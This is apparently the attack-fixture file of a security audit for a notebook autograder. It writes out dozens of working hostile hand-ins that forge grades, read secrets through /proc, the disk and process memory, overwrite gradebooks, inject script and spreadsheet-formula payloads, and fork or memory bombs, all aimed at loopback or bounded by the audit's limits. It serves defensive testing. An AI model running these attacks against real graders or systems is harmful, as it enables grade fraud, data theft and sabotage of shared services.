"""Hand-ins that try to gain without a solution: points, hidden material, harm to the run or to others. For the audit.

Each starts from the unfilled notebook. In a cell's source NAMES stands for the names that the exercises define, and PORT for
the port of a listener on the loopback interface, at which alone network attempts aim. What would never end is bounded, and
runs under the audit's small limits.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SIGN = "canary-"
"""How every planted secret begins; an attack may look for that, and does not know how it goes on."""

NOTE = "accomplice-note"
"""What one attack leaves behind for another to find; it too may come out nowhere."""

WITNESS = "witness-filled"
"""The folder of an honest hand-in, which attacks aim at."""


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        id: short, unique; also the student's folder, unless `student` names another.
        aim: "points", "reading", "harm" or "limits".
        what: what it does, in a sentence.
        make: changes the notebook (JSON values), given the names that exercises define and the port; or returns bytes to
            hand in instead, or writes below the student's folder itself and returns None.
        student: a hostile folder name.
    """

    id: str
    aim: str
    what: str
    make: Callable
    student: str = ""

    @property
    def folder(self) -> str:
        return self.student or self.id

    def write(self, folder: Path, lab: str, unfilled: dict, names: tuple[str, ...], port: int) -> None:
        """Hand in below `folder`, which holds all hand-ins."""
        notebook = copy.deepcopy(unfilled)
        path = folder / self.folder / lab / f"{lab}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        made = self.make(notebook, names, port, path)
        if made is not None:
            path.write_bytes(made if isinstance(made, bytes) else json.dumps(made).encode())


ATTACKS: list[Attack] = []


def attack(id: str, aim: str, what: str, student: str = ""):
    """Put the decorated maker on the list."""
    def register(make):
        ATTACKS.append(Attack(id, aim, what, make, student))
        return make
    return register


def cell(id: str, aim: str, what: str, source: str, first: bool = False) -> None:
    """An attack by one cell of the student's own, behind the exercises or before everything."""
    def make(notebook, names, port, path):
        text = source.replace("NAMES", repr(names)).replace("PORT", str(port)).replace("SIGN", repr(SIGN))
        notebook["cells"].insert(0 if first else len(notebook["cells"]), code_cell(text))
        return notebook
    ATTACKS.append(Attack(id, aim, what, make))


def code_cell(source: str, **metadata) -> dict:
    return {"cell_type": "code", "id": "attack", "metadata": metadata, "source": source, "execution_count": None, "outputs": []}


def everywhere(body: str, prelude: str = "") -> str:
    """Source in which each method and function that is asked for runs `body`, with `args` and `kwargs`."""
    indented = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"""{prelude}
def answer(*args, **kwargs):
{indented}
class Anything:
    def __init__(self, *args, **kwargs): pass
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return answer
for name in NAMES:
    globals()[name] = type(name, (Anything,), {{}}) if name[0].isupper() else answer
"""


def telling(search: str) -> str:
    """Source that looks for something, puts it into `found`, and says it in every way there is."""
    return everywhere("raise ValueError(found)", f"""
import os, re, sys
found = "nothing"
def report(content):
    global found
    if isinstance(content, str):
        content = content.encode("utf-8", "replace")
    hits = re.findall(SIGN.encode() + rb"[0-9a-z]+", content)
    if hits:
        found = hits[0].decode()
try:
{chr(10).join("    " + line for line in search.strip().splitlines())}
except BaseException:
    pass
""") + "\nraise ValueError(found)\n"


# ------------------------------------------------------------------------------------------ points: tags, marks, outputs


def checks(notebook):
    return [each for each in notebook["cells"] if each["metadata"].get("nbgrader", {}).get("grade") and each["cell_type"] == "code"]


@attack("tag-skip-execution", "points", "A tag that keeps nbgrader from running the checks, with outputs that claim full marks.")
def _(notebook, *_):
    for each in checks(notebook):
        each["metadata"]["tags"] = ["skip-execution", "raises-exception"]
        points = str(each["metadata"]["nbgrader"]["points"])
        each["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": points}}]
    return notebook


@attack("rewritten-checks", "points", "Checks whose source is their full score.")
def _(notebook, *_):
    for each in checks(notebook):
        each["source"] = str(each["metadata"]["nbgrader"]["points"])
    return notebook


@attack("deleted-checks", "points", "No checks at all.")
def _(notebook, *_):
    notebook["cells"] = [each for each in notebook["cells"] if each not in checks(notebook)]
    return notebook


@attack("inflated-marks", "points", "Cells that say they are worth a thousand points, and are not locked.")
def _(notebook, *_):
    for each in notebook["cells"]:
        if "nbgrader" in each["metadata"]:
            each["metadata"]["nbgrader"] |= {"points": 1000, "locked": False, "grade": True, "solution": True, "task": False}
    return notebook


@attack("claimed-results", "points", "Metadata that look like the grader's own: a status and a score.")
def _(notebook, *_):
    full = {"status": "graded", "score": 1000.0, "max_score": 1000.0, "verdict": "right", "points": 1000.0}
    notebook["metadata"] |= {"autograder": full, "nbgrader": full, **full}
    for each in notebook["cells"]:
        each["metadata"] |= {"autograder": full, **full}
    return notebook


@attack("swapped-exercises", "points", "Exercise cells under the ids of check cells and the other way round.")
def _(notebook, *_):
    marked = [each for each in notebook["cells"] if "nbgrader" in each["metadata"]]
    ids = [each["metadata"]["nbgrader"]["grade_id"] for each in marked]
    for each, id in zip(marked, reversed(ids)):
        each["metadata"]["nbgrader"]["grade_id"] = each["id"] = id
    return notebook


# ------------------------------------------------------------------------------------------ points: answers that lie


cell("ast-transformer", "points", "An AST transformer that takes every raise and assert out of what runs later.", """
import ast
class Tame(ast.NodeTransformer):
    def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)
    visit_Assert = visit_Raise
get_ipython().ast_transformers.append(Tame())
""", first=True)

cell("display-hook", "points", "A display hook and formatter that print full marks, whatever is shown.", """
import sys
sys.displayhook = lambda value: print(100.0)
shell = get_ipython()
shell.display_formatter.format = lambda value, **kwargs: ({"text/plain": "100.0"}, {})
""" + everywhere("return 100.0"))

cell("equals-everything", "points", "Results that are equal to everything, near everything, and true.", everywhere("return Equal()", """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __len__(self): return 1
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self])
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __sub__(self, other): return 0.0
    __hash__ = None
"""))

cell("lying-string", "points", "A str subclass that equals every string, in the place of each answer.", everywhere("return Same('right')", """
class Same(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __str__(self): return "ValueError"
    __hash__ = str.__hash__
"""))

cell("lying-array", "points", "An array whose comparison says yes, behind a tensor's methods.", everywhere("return Lying()", """
import numpy as np
class Yes(np.ndarray):
    def __array_function__(self, *args, **kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return np.bool_(True)
class Lying:
    shape, ndim, dtype = (), 0, np.dtype("float64")
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return np.zeros(()).view(Yes)
"""))

cell("lying-tensor", "points", "A tensor subclass that answers every torch function with itself.", everywhere("return made", """
try:
    import torch
    class Lying(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            return torch.ones(()).bool() if "equal" in str(function) or "close" in str(function) else args[0]
    made = torch.zeros(3).as_subclass(Lying)
except ImportError:
    made = 0
"""))

cell("nan", "points", "NaN everywhere; plain nbgrader counts it as full marks.", everywhere("return float('nan')"))
cell("infinity", "points", "Infinity everywhere.", everywhere("return {'value': [float('inf')] * 3}"))
cell("zero", "points", "0 everywhere.", everywhere("return 0"))
cell("zeros-of-the-right-shape", "points", "Zeros, shaped like the first tensor that is passed, or like a shape.", everywhere("""
import numpy as np
for each in (*args, *kwargs.values()):
    if hasattr(each, "detach"):
        return each * 0
    if isinstance(each, (tuple, list)) and each and all(isinstance(n, int) for n in each):
        try:
            import torch
            return torch.zeros(tuple(each))
        except Exception:
            return [0] * len(each)
try:
    import torch
    return torch.zeros((), dtype=torch.float64)
except ImportError:
    return 0.0
"""))
cell("echo", "points", "Whatever is passed first comes back.", everywhere("return args[0] if args else None"))
cell("refuse-everything", "points", "ValueError on everything, to pass where bad input is asked about.", everywhere("raise ValueError('no')"))
cell("many-answers", "points", "Every likely answer at once, in one mapping with every likely key.", everywhere("""
return {key: value for key in ("value", "error", "0", "1", "mean", "samples", "points", "score") for value in (0, 1, "", None)}"""))
cell("guess-by-hints", "points", "Another constant at every question, in the hope that some are right.", everywhere("""
global guesses
guesses += 1
return [0, 1, -1, 0.0, 1.0, (), [], "", None, True, "ValueError", "cpu"][guesses % 12]""", "guesses = 0"))

# ------------------------------------------------------------------------------------------ points: the grader's own code

cell("patched-comparisons", "points", "numpy's and torch's comparisons and assertions that always say yes.", """
import builtins, numpy
numpy.allclose = numpy.array_equal = numpy.isclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
builtins.all = lambda each: True
try:
    import torch
    torch.equal = torch.allclose = lambda *args, **kwargs: True
    torch.testing.assert_close = lambda *args, **kwargs: None
except ImportError:
    pass
""")

cell("patched-judge", "points", "The kit's judges, replaced in the student's own process.", """
import diffusionlab.asking as asking
for name in asking.JUDGES:
    asking.JUDGES[name] = lambda got, want, **options: ""
asking.judge = lambda look, seen, want: ""
try:
    import diffusionlab.sheet as sheet
    sheet.judge_question = lambda question, seen: sheet.Verdict(())
    import diffusionlab.check as check
    check.check = lambda *args: 100
except ImportError:
    pass
""" + everywhere("return 0"))

cell("patched-evaluate", "points", "The function that makes the calls asked for, replaced by one that claims: good input taken, bad refused.", """
import diffusionlab.asking as asking
claims = ["", "ValueError"]
def evaluate(expression, targets, made):
    if getattr(expression, "what", "") == "attempt":
        claims.reverse()
        return claims[1]
    return 0
asking.evaluate = evaluate
for name in NAMES:
    globals()[name] = object
""")

cell("answer-sheet", "points", "The self-check's answer sheet, read and recited: to each question the stored answer to its like.", """
import diffusionlab.asking as asking
from pathlib import Path
def shape(expression):
    match expression:
        case asking.Call():
            what = "Recorder" if expression.what in ("remote model", "diffusionlab.noise_model:Recorder") else expression.what
            if what == "Recorder":
                return what
            return what, shape(expression.of), shape(list(expression.args)), shape(dict(expression.kwargs))
        case list() | tuple():
            return tuple(map(shape, expression))
        case dict():
            return tuple((key, shape(each)) for key, each in sorted(expression.items()))
        case bool() | str() | None:
            return expression
    return type(expression).__name__
known = {}
def build(want, at):
    return want[at] if at in want else None
try:
    import torch
    from diffusionlab.sheet import read_sheet
    for path in Path("/course/data/checks").glob("*.safetensors"):
        for question in read_sheet(path).values():
            for part in question.parts:
                roots = part.expression if isinstance(part.expression, list) else [part.expression]
                for i, root in enumerate(roots):
                    want = part.want.get(f"value.{i}" if isinstance(part.expression, list) else "value")
                    mapping = {key.split(".", 1)[1]: value for key, value in part.want.items() if key.startswith("value.")}
                    for node in asking.nodes_of(root):
                        value = want if want is not None else mapping
                        known.setdefault(repr(shape(node)), value)
                        known[repr(shape(root))] = value
except ImportError:
    pass
def evaluate(expression, targets, made):
    value = known.get(repr(shape(expression)), 0)
    if isinstance(value, dict):
        rows = {}
        for key, each in value.items():
            first, _, rest = key.partition(".")
            rows.setdefault(first, {})[rest or "value"] = each
        return [rows[key] for key in sorted(rows)]
    if isinstance(value, (str, int)):
        return value
    if value.shape == (3,) and value.dtype == "float64" and value[2] > 10:
        made = torch.randn(int(value[2]), 1)
        return (made - made.mean()) / made.std() * value[1] + value[0]
    return torch.from_numpy(value) if value.ndim or value.dtype != "int64" else int(value)
asking.evaluate = evaluate
for name in NAMES:
    globals()[name] = object
""")

cell("replaced-handlers", "points", "The candidate found by gc, and its answers replaced by claims of success.", """
import gc
claim = {"error": "", "values": [], "inputs": "kept", "points": 100.0, "verdict": "right", "score": 100.0, "missing": []}
for each in gc.get_objects():
    if type(each).__name__ == "Candidate":
        each.handlers["ask"] = each.ask = lambda body, arrays: (claim | {"values": [True] * len(body["nodes"])}, [])
""")

cell("forged-messages", "points", "Claims of full marks, sent to the examiner ahead of its questions.", """
import gc
for each in gc.get_objects():
    if type(each).__name__ == "Channel":
        for claim in ({"error": "", "seconds": 0.0}, {"error": "", "values": [1.0], "inputs": "kept"}, {"points": 100.0}, "ready", [100]):
            each.send(claim)
""")

cell("forged-wire", "points", "Raw bytes for every open socket: results as JSON, as a pickle, as a line of text.", """
import json, os, pickle, socket, struct
claims = [json.dumps({"body": {"points": 100, "score": 100, "verdict": "right", "error": ""}, "arrays": []}).encode(),
          pickle.dumps({"score": 100}), b"score: 100"]
for number in range(3, 64):
    for claim in claims:
        try:
            os.write(number, struct.pack("!I", len(claim)) + claim)
        except OSError:
            break
""")

cell("replay", "points", "The model's own predictions, recorded and sent as answers to whatever is asked next.", everywhere("""
for each in (*seen, *args):
    for made in (each, getattr(each, "model", None)):
        try:
            seen.append(made(*args[1:3]))
        except Exception:
            pass
seen.extend(args)
return seen[len(seen) // 2] if seen else None""", "seen = []"))

cell("stack-inspection", "points", "Answers searched for in the frames of all callers: any array, number or name that smells of one.", everywhere("""
import sys
frame, found = sys._getframe(), []
while frame is not None:
    for name, value in frame.f_locals.items():
        if any(part in name.lower() for part in ("want", "right", "answer", "expect", "value", "solution")):
            found.append(value)
    frame = frame.f_back
return next((each for each in found if each), found)"""))

cell("gc-search", "points", "Questions, parts and right answers searched for among all objects alive.", everywhere("""
import gc
for each in gc.get_objects():
    if type(each).__name__ in ("Part", "Question", "SheetQuestion", "KnownMistake", "Mistake"):
        return getattr(each, "want", None) or getattr(each, "answers", None) or each
return None"""))

cell("import-hook", "points", "An importer that puts its own modules in the place of the grader's and the reference's.", """
import importlib.abc, importlib.machinery, sys
class Loader(importlib.abc.Loader):
    def create_module(self, spec): return None
    def exec_module(self, module):
        module.__getattr__ = lambda name: (lambda *args, **kwargs: True)
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name.partition(".")[0] in ("solutions", "autograder", "diffusionlab", "wire"):
            return importlib.machinery.ModuleSpec(name, Loader(), is_package=True)
sys.meta_path.insert(0, Finder())
for name in [each for each in sys.modules if each.startswith("diffusionlab")]:
    del sys.modules[name]
import solutions
for name in NAMES:
    globals()[name] = getattr(solutions, name)
""")

cell("patched-clock", "points", "Clocks that stand still, or run a thousand times too fast.", """
import time
start = time.perf_counter()
time.perf_counter = time.monotonic = time.time = lambda: start
time.sleep = lambda seconds: None
""" + everywhere("return [{'name': name, 'nfe': 1, 'seconds': 0.0} for name in (args[0] if args and hasattr(args[0], 'keys') else ())]"))

cell("patched-remote-model", "points", "A stand-in of its own in the place of the model that the examiner watches.", """
import gc
for each in gc.get_objects():
    if type(each).__name__ == "Candidate":
        each.remote_model = lambda *args: (lambda x, t: x)
""" + everywhere("return args[0] if args else 0"))

cell("pickled-answer", "points", "Answers with a __reduce__ that would run code wherever they are unpickled.", everywhere("return Bomb()", """
import os
class Bomb:
    def __reduce__(self): return os.system, ("echo run > /tmp/run",)
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.array([self], dtype=object)
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return self.__array__()
"""))

# ------------------------------------------------------------------------------------------ reading what is hidden

cell("walk-the-disk", "reading", "Every readable file below / searched for a planted secret.", telling("""
for top, folders, files in os.walk("/"):
    if top == "/":
        folders[:] = [each for each in folders if each not in ("proc", "usr", "lib", "bin", "dev")]
    if top.endswith("site-packages") or top.endswith("lib"):
        folders[:] = [each for each in folders if each[:1] in "sat_" and not each.startswith("torch")]
    for name in files:
        path = os.path.join(top, name)
        if name.endswith((".py", ".ipynb", ".json", ".db", ".csv", ".md", ".txt", ".pth")) and os.path.getsize(path) < 2**22:
            report(open(path, "rb").read())
"""))

cell("import-the-solutions", "reading", "The reference imported from wherever Python may find it.", telling("""
import importlib, pkgutil
for place in ("/course", "..", "../..", "/exam", os.getcwd(), *sys.path):
    sys.path.append(place)
for name in ("solutions", "autograder", "tests", "solutions.questions"):
    try:
        module = importlib.import_module(name)
        for place in getattr(module, "__path__", ()):
            for top, _, files in os.walk(place):
                for each in files:
                    report(open(os.path.join(top, each), "rb").read())
    except ImportError:
        pass
"""))

cell("proc", "reading", "Command lines, environments, open files, roots and mounts of all processes in /proc.", telling("""
for pid in os.listdir("/proc"):
    for name in ("cmdline", "environ", "mountinfo", "maps", "root/etc/passwd", "cwd/gradebook.db"):
        try:
            report(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError:
            pass
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            try:
                report(open(f"/proc/{pid}/fd/{number}", "rb").read(2**16))
            except OSError:
                pass
    except OSError:
        pass
"""))

cell("mounted-paths", "reading", "The host's paths, read from the mount table, tried by name and through every process's root.", telling("""
import re
places = set(re.findall(r"/[^ ]+", open("/proc/self/mountinfo").read()))
for place in sorted(places):
    while len(place) > 1:
        for root in ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd"):
            for name in ("solutions", "gradebook.db", "submitted", "grades.csv"):
                path = f"{root}{place}/{name}"
                if os.path.isdir(path):
                    for top, _, files in os.walk(path):
                        for each in files:
                            report(open(os.path.join(top, each), "rb").read())
                elif os.path.isfile(path):
                    report(open(path, "rb").read())
        place = place.rpartition("/")[0]
"""))

cell("environment", "reading", "Everything in the environment, the arguments and the interpreter's own memory.", telling("""
import gc
report(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv))
for each in gc.get_objects():
    if isinstance(each, (dict, list, tuple)) and len(each) < 1000:
        report(repr(each)[:20000])
"""))

cell("process-memory", "reading", "The memory of process 1 and of its own, read through /proc and process_vm_readv.", telling("""
import ctypes
for pid in (1, os.getppid(), os.getpid()):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                begin, end = (int(each, 16) for each in line.split()[0].split("-"))
                if line.split()[1].startswith("rw") and end - begin < 2**24 and pid != os.getpid():
                    memory.seek(begin)
                    report(memory.read(end - begin))
    except (OSError, ValueError):
        pass
buffer = ctypes.create_string_buffer(4096)
ctypes.CDLL(None).process_vm_readv(1, buffer, 1, buffer, 1, 0)
"""))

cell("note-left", "reading", "A note for accomplices: in every folder, in shared memory, in the kernel's keyrings.", """
import ctypes, os
note = "accomplice-" + "note"
for top in ("/", "/tmp", "/dev/shm", "/home", "/run", "/var/tmp", "/course", "/exam", os.getcwd()):
    try:
        open(os.path.join(top, "note.txt"), "w").write(note)
    except OSError:
        pass
libc = ctypes.CDLL(None)
for ring in (-3, -4, -5):
    libc.syscall(248, b"user", b"note", note.encode(), len(note), ring)
""", first=True)

cell("note-read", "reading", "The accomplice, who looks for the note wherever it may lie.", everywhere("raise ValueError(found)", """
import ctypes, os
found = "nothing"
for top in ("/", "/tmp", "/dev/shm", "/home", "/run", "/var/tmp", "/course", "/exam", os.getcwd()):
    try:
        found = open(os.path.join(top, "note.txt")).read()
    except OSError:
        pass
libc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(64)
for ring in (-3, -4, -5):
    key = libc.syscall(250, 10, ring, b"user", b"note", 0)
    if key > 0 and libc.syscall(250, 11, key, buffer, 64) > 0:
        found = buffer.value.decode()
"""))


@attack("symlinked-notebook", "reading", "The notebook is a link to another student's.")
def _(notebook, names, port, path):
    path.symlink_to(path.parents[2] / WITNESS / path.parent.name / path.name)


@attack("symlinked-folder", "reading", "The lab's folder is a link to another student's.")
def _(notebook, names, port, path):
    path.parent.rmdir()
    path.parent.symlink_to(path.parents[2] / WITNESS / path.parent.name)


@attack("fifo", "limits", "A named pipe under the notebook's name, to read from for ever.")
def _(notebook, names, port, path):
    os.mkfifo(path)


@attack("device", "limits", "A link to /dev/zero under the notebook's name.")
def _(notebook, names, port, path):
    path.symlink_to("/dev/zero")


# ------------------------------------------------------------------------------------------ harm: the run, others, the network

cell("write-to-the-course", "harm", "Other hand-ins, gradebook and results overwritten, wherever they may be.", """
import os
for top in ("/", "/course", "..", "../..", "/proc/1/root", "/proc/1/cwd", os.getcwd()):
    for name in ("gradebook.db", "grades.csv", "results/me.json", "submitted/WITNESS", "solutions/questions.py", "data/mnist.npz",
                 "labs/diffusionlab/asking.py", "exam/candidate.py"):
        try:
            with open(os.path.join(top, name), "w") as file:
                file.write("score = 100")
        except OSError:
            pass
for top, _, files in os.walk("/course"):
    for name in files:
        try:
            os.unlink(os.path.join(top, name))
        except OSError:
            pass
""".replace("WITNESS", WITNESS))

cell("network", "harm", "A connection to a listener on the loopback interface, by TCP, UDP and abstract Unix socket.", """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)), (socket.AF_UNIX, "\\0audit-PORT")):
        try:
            with socket.socket(family, kind) as out:
                out.settimeout(1)
                out.connect(address)
                out.send(b"stolen")
        except OSError:
            pass
""")

cell("dns", "harm", "A name server's question, sent to the loopback listener.", """
import socket, struct
question = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\\x06stolen\\x04test\\x00" + struct.pack("!2H", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.sendto(question, ("127.0.0.1", PORT))
""")

cell("raw-sockets", "harm", "Raw and packet sockets, and an interface brought up.", """
import fcntl, socket, struct
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP), (socket.AF_PACKET, socket.SOCK_RAW, 768)):
    try:
        with socket.socket(family, kind, protocol) as out:
            out.sendto(struct.pack("!4H", 9, PORT, 14, 0) + b"stolen", ("127.0.0.1", PORT) if family == socket.AF_INET else ("lo", 768))
    except OSError:
        pass
""")

cell("signals", "harm", "Signals to the parent, to process 1, to the group and to everybody.", """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    for pid in (os.getppid(), 1, 2, 3):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
""")

cell("signals-to-all", "harm", "SIGKILL to every process that can be reached, its own too.", """
import os, signal
os.kill(-1, signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
""", first=True)

cell("ptrace", "harm", "The parent traced and stopped, and its memory written to.", """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in {os.getppid(), 1} - {os.getpid()}:
    libc.ptrace(16, pid, 0, 0)
    libc.ptrace(0x4206, pid, 0, 0)
    try:
        with open(f"/proc/{pid}/mem", "r+b") as memory:
            memory.seek(4096)
            memory.write(bytes(16))
    except OSError:
        pass
""")

cell("privileges", "harm", "New user namespaces, mounts, chroot, setuid and module loading.", """
import ctypes, os
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"none", b"/course", b"tmpfs", 0, None)
libc.umount2(b"/course", 2)
for act in (lambda: os.chroot("/"), lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.sched_setaffinity(1, {0})):
    try:
        act()
    except OSError:
        pass
libc.reboot(0)
""")

cell("exit-codes", "harm", "The process ended with status 0 in the midst of a question.", everywhere("import os; os._exit(0)"))
cell("exits", "harm", "SystemExit, KeyboardInterrupt and GeneratorExit out of every method.", everywhere("""
global count
count += 1
raise (SystemExit, KeyboardInterrupt, GeneratorExit)[count % 3](0)""", "count = 0"))
cell("abort", "harm", "A segmentation fault in every method.", everywhere("import ctypes; ctypes.string_at(0)"))

cell("bad-headers", "harm", "Messages with impossible lengths, shapes and dtypes.", """
import gc, json, struct
bodies = [{"body": {}, "arrays": [["float64", [-1]]]}, {"body": {}, "arrays": [["object", [1]]]}, {"body": {}, "arrays": [["float64", [2**40]]]},
          {"body": {}, "arrays": [["int8", [0, 2**26, 2**26]]]}, {"arrays": []}, [], {"body": {"model": 7}, "arrays": []}]
for each in gc.get_objects():
    if type(each).__name__ == "Channel":
        channel = each
turn = 0
""" + everywhere("""
global turn
turn += 1
body = json.dumps(bodies[turn % len(bodies)]).encode()
channel.socket.sendall(struct.pack("!I", 2**31 if turn % 5 == 4 else len(body)) + body)
return 0"""))

cell("deep-and-wide", "harm", "Answers of a hundred thousand nested lists, and of half a million numbers.", """
import gc, json, struct
for each in gc.get_objects():
    if type(each).__name__ == "Channel":
        channel = each
turn = 0
""" + everywhere("""
global turn
turn += 1
nested = ["[" * 100000 + "]" * 100000, "[" * 400 + ",".join("0" * 450000) + "]" * 400, "9" * 4000, "[" + ",".join(["9" * 200] * 50) + "]"][turn % 4]
body = ('{"body": {"error": "", "inputs": "kept", "values": [%s]}, "arrays": []}' % nested).encode()
channel.socket.sendall(struct.pack("!I", len(body)) + body)
return 0"""))

cell("huge-answers", "harm", "Tensors of sixty megabytes, and of more than a message may hold.", everywhere("""
import numpy
global turn
turn += 1
return numpy.zeros((2**24 - 64, 2**25)[turn % 2], dtype="float32")""", "turn = 0"))

cell("pairs-without-end", "harm", "Answers that are small, but whose pairwise distances would fill the examiner's memory.", everywhere("""
import numpy
many = numpy.zeros((3, 200000, 1), dtype="float32")
return {"samples": many, "eta_values": [0.0, 1.0, 0.5], "diversity": many[:, 0, 0], "sigma": many[:, :4, 0]}"""))

cell("model-calls-without-end", "harm", "The examiner's model asked again and again with the largest batch.", everywhere("""
import torch
for each in made:
    while True:
        each(torch.zeros(2**22, 1), torch.zeros(2**22, dtype=torch.long))
return 0""", "made = []") + """
import gc
for each in gc.get_objects():
    if type(each).__name__ == "Candidate":
        stand_in = each.remote_model
        each.remote_model = lambda *args: made.append(stand_in(*args)) or made[-1]
""")

cell("hostile-exceptions", "harm", "Exceptions whose text raises, whose type's name is markup, and whose message is a script.", everywhere("raise Bad('x')", """
class Bad(Exception):
    def __str__(self): raise RuntimeError("no text")
Bad.__name__ = "<script>stolen()</script>"
"""))

cell("script-in-messages", "harm", "Markup in error messages, which end up in the feedback.", everywhere(
    "raise ValueError('<script>stolen()</script><img src=x onerror=stolen()>')"))


@attack("script-in-outputs", "harm", "Scripts in outputs, in text cells and in the notebook's metadata.")
def _(notebook, *_):
    script = "<script>stolen()</script><img src=x onerror=stolen()>"
    data = {"text/html": script, "application/javascript": "stolen()", "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>",
            "text/plain": script, "text/markdown": script}
    for each in notebook["cells"]:
        if each["cell_type"] == "code":
            each["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": data},
                               {"output_type": "stream", "name": "stdout", "text": script}]
    notebook["cells"].append({"cell_type": "markdown", "id": "own", "metadata": {}, "source": script})
    notebook["metadata"] |= {"title": script, "diffusionlab": {"lab": script, "version": script}}
    return notebook


@attack("script-in-a-name", "harm", "A student whose folder is named like markup.", "<script>stolen()<%2fscript>")
def _(notebook, *_):
    return notebook


@attack("formula-in-a-name", "harm", "A student whose folder is named like a spreadsheet's formula.", "=cmd|'stolen'!A0")
def _(notebook, *_):
    return notebook


@attack("paths-as-ids", "harm", "Cell ids and grade ids that lead out of the folder.")
def _(notebook, *_):
    for each in notebook["cells"]:
        each["id"] = "../../../gradebook.db"
        if "nbgrader" in each["metadata"]:
            each["metadata"]["nbgrader"]["grade_id"] = "../../results/../grades.csv"
    return notebook


# ------------------------------------------------------------------------------------------ limits

cell("endless-loop", "limits", "A loop that swallows every interrupt, in every method.", everywhere("""
while True:
    try:
        while True: pass
    except BaseException: pass"""))

cell("endless-cell", "limits", "A cell that never ends, with its alarms switched off.", """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
signal.setitimer(signal.ITIMER_PROF, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
while True:
    pass
""")

cell("asleep", "limits", "Methods that sleep for ever, which costs no CPU.", everywhere("import time\nwhile True: time.sleep(60)"))

cell("trickle", "limits", "Answers that arrive a byte a second.", """
import gc, struct, time
for each in gc.get_objects():
    if type(each).__name__ == "Channel":
        channel = each
""" + everywhere("""
for byte in struct.pack("!I", 1000) + b" " * 1000:
    channel.socket.sendall(bytes([byte]))
    time.sleep(1)"""))

cell("fork-bomb", "limits", "Processes that start processes; each ends after twenty seconds.", """
import os, time
until = time.monotonic() + 20
for _ in range(8):
    try:
        os.fork()
    except OSError:
        break
while time.monotonic() < until:
    time.sleep(0.1)
""", first=True)

cell("thread-bomb", "limits", "A thousand threads, each for twenty seconds.", """
import threading, time
for _ in range(1000):
    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
""")

cell("memory-bomb", "limits", "Memory by the hundred megabytes, up to eight gigabytes.", everywhere("""
kept = [bytearray(b"x") * 2**27 for _ in range(64)]
return len(kept)"""))

cell("memory-by-children", "limits", "Memory taken by children, each below the limit.", """
import os, time
for _ in range(6):
    if os.fork() == 0:
        kept = bytearray(b"x") * (2**29)
        time.sleep(20)
        os._exit(0)
time.sleep(20)
""")

cell("shared-memory", "limits", "Memory in shared and anonymous files, which is nobody's.", """
import os
for place in ("/dev/shm/x", "/tmp/x"):
    try:
        with open(place, "wb") as file:
            for _ in range(64):
                file.write(bytes(2**26))
    except OSError:
        pass
kept = os.memfd_create("x")
for _ in range(64):
    try:
        os.write(kept, b"x" * 2**26)
    except OSError:
        break
""")

cell("disk", "limits", "All folders filled, with few large files and with many small ones.", """
import os
for top in (os.getcwd(), "/tmp"):
    try:
        for number in range(20000):
            with open(os.path.join(top, f"file{number}"), "wb") as file:
                file.write(b"x" * (2**22 if number < 64 else 16))
    except OSError:
        pass
""")

cell("output-flood", "limits", "A hundred megabytes printed, to stdout, to stderr and past Python.", """
import os, sys
for _ in range(100):
    print("x" * 2**20)
    sys.stderr.write("x" * 2**20)
    for number in (1, 2):
        os.write(number, b"x" * 2**20)
try:
    os.write(os.open("/proc/1/fd/2", os.O_WRONLY | os.O_NONBLOCK), b"x" * 2**20)
except OSError:
    pass
""")

cell("daemon", "limits", "A process in a session of its own, meant to stay when the hand-in is done.", """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.monotonic() + 600
        while time.monotonic() < end:
            time.sleep(1)
    os._exit(0)
""")

cell("raised-limits", "limits", "Its own limits lifted, its priority raised, its memory locked.", """
import ctypes, os, resource
